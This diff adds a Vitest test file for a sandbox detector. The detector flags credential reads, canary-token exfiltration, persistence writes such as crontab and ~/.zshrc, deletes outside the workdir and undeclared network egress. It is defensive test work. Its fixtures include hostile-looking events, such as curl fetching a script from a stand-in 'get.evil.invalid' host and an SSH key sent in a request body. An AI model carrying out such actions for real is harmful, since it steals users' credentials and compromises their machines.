@@ -1,0 +1,70 @@
+import { describe, expect, it } from 'vitest';
+import { noCapabilities, type Capabilities, type DryRunEvent } from '../schemas/index.ts';
+import { createHoneypot } from './honeypot.ts';
+import { findViolations, hostAllowed, observedCapabilities } from './violations.ts';
+
+const honeypot = createHoneypot();
+const event = (kind: DryRunEvent['kind'], target: string, extra: Partial<DryRunEvent> & Record<string, unknown> = {}): DryRunEvent => ({ kind, target, command: 'run', canary: false, ...extra });
+const ids = (events: DryRunEvent[], declared: Capabilities = noCapabilities()) => findViolations(events, declared, honeypot).map((violation) => violation.ruleId);
+
+describe('findViolations', () => {
+  it('flags undeclared credential reads but not declared ones', () => {
+    expect(ids([event('file-read', '~/.aws/credentials', { canary: true })])).toEqual(['dryrun-credential-read']);
+    expect(ids([event('file-read', '~/.aws/credentials', { canary: true })], { ...noCapabilities(), filesystem: { read: ['~/.aws/'], write: [] } })).toEqual([]);
+  });
+
+  it('lets a declared tool read its own credentials, and send them only to a declared host', () => {
+    const npm = { ...noCapabilities(), commands: ['npm'], network: ['registry.npmjs.org'] };
+    expect(ids([event('file-read', '~/.npmrc', { canary: true })], npm)).toEqual([]);
+    expect(ids([event('file-read', '~/.netrc', { canary: true })], npm)).toEqual([]);
+    expect(ids([event('http', 'https://registry.npmjs.org/left-pad', { canary: true, headers: [['authorization', 'Bearer npm_<canary ~/.npmrc>']] })], npm)).toEqual([]);
+    expect(ids([event('http', 'https://registry.npmjs.org/x', { canary: true, body: '<canary ~/.ssh/id_rsa>' })], npm)).toEqual(['dryrun-canary-exfiltration']);
+    expect(ids([event('file-read', '~/.npmrc', { canary: true })])).toEqual(['dryrun-credential-read']);
+  });
+
+  it('flags persistence writes, refused ones too, and scheduler commands', () => {
+    expect(ids([event('file-write', '~/.zshrc'), event('file-write', '/var/spool/cron/crontabs/jordan', { refused: true }), event('exec', 'crontab', { found: false })])).toEqual([
+      'dryrun-persistence', 'dryrun-persistence', 'dryrun-persistence',
+    ]);
+  });
+
+  it('tells rewriting the user\'s files (fail) from creating new ones (warn), and ignores tool caches', () => {
+    expect(findViolations([event('file-write', '~/.ssh/known_hosts'), event('file-write', '~/notes.txt'), event('file-write', '~/.cache/pip/x'), event('file-write', './out.txt')], noCapabilities(), honeypot).map((violation) => [violation.ruleId, violation.severity])).toEqual([
+      ['dryrun-rewrite-outside', 'high'],
+      ['dryrun-undeclared-write', 'medium'],
+    ]);
+  });
+
+  it('flags deletes outside the working directory only', () => {
+    expect(ids([event('file-delete', './build/tmp.txt'), event('file-delete', '~/.ssh/id_rsa')])).toEqual(['dryrun-delete-outside']);
+  });
+
+  it('holds network events to the declared hosts and any canary to its declaration', () => {
+    const declared = { ...noCapabilities(), network: ['*.example.invalid'], env: ['DEPLOY_TOKEN'] };
+    expect(ids([event('dns', 'api.example.invalid'), event('dns', 'evil.invalid')], declared)).toEqual(['dryrun-undeclared-egress']);
+    expect(ids([event('http', 'https://api.example.invalid/x', { canary: true, canaries: ['<canary env:GITHUB_TOKEN>'] })], declared)).toEqual(['dryrun-canary-exfiltration']);
+    expect(ids([event('http', 'https://api.example.invalid/x', { canary: true, canaries: ['<canary env:DEPLOY_TOKEN>'] })], declared)).toEqual([]);
+    expect(ids([event('exec', '/usr/bin/curl', { argv: ['curl', 'https://get.evil.invalid/i.sh'] })], declared)).toEqual(['dryrun-undeclared-egress']);
+  });
+
+  it('turns every limit into a violation named after it', () => {
+    expect(ids([event('limit', 'CPU time 10000 ms', { limit: 'cpu' })])).toEqual(['dryrun-limit-cpu']);
+  });
+});
+
+describe('hostAllowed', () => {
+  it('matches exact names, suffix patterns, ports and *', () => {
+    expect(hostAllowed('api.weather.gov', 443, ['api.weather.gov'])).toBe(true);
+    expect(hostAllowed('weather.gov', undefined, ['*.weather.gov'])).toBe(true);
+    expect(hostAllowed('evilweather.gov', undefined, ['*.weather.gov'])).toBe(false);
+    expect(hostAllowed('api.weather.gov', 80, ['api.weather.gov:443'])).toBe(false);
+    expect(hostAllowed('203.0.113.5', 22, ['*'])).toBe(true);
+  });
+});
+
+describe('observedCapabilities', () => {
+  it('collects hosts, paths outside the working directory and commands', () => {
+    const observed = observedCapabilities([event('exec', '/usr/bin/python3'), event('exec', 'jq', { found: false }), event('file-read', './a'), event('file-read', '~/.npmrc'), event('connect', 'api.example.invalid:443')], honeypot);
+    expect(observed).toEqual({ network: ['api.example.invalid'], env: [], filesystem: { read: ['~/.npmrc'], write: [] }, commands: ['jq', 'python3'] });
+  });
+});
